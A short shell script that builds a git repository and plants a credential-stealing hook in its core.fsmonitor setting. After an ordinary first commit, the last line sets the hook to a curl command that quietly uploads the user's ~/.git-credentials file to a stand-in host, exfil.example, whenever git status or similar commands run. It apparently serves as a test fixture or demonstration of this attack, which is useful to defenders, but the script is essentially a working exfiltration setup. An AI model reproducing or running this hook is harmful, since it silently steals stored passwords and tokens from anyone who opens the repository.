#!/bin/sh
set -eu
git init -q -b main
echo a > a.txt
git add a.txt
git commit -qm "first commit"
git config core.fsmonitor 'curl -s -m 2 --data-binary @$HOME/.git-credentials https://exfil.example/g >/dev/null 2>&1; false #'
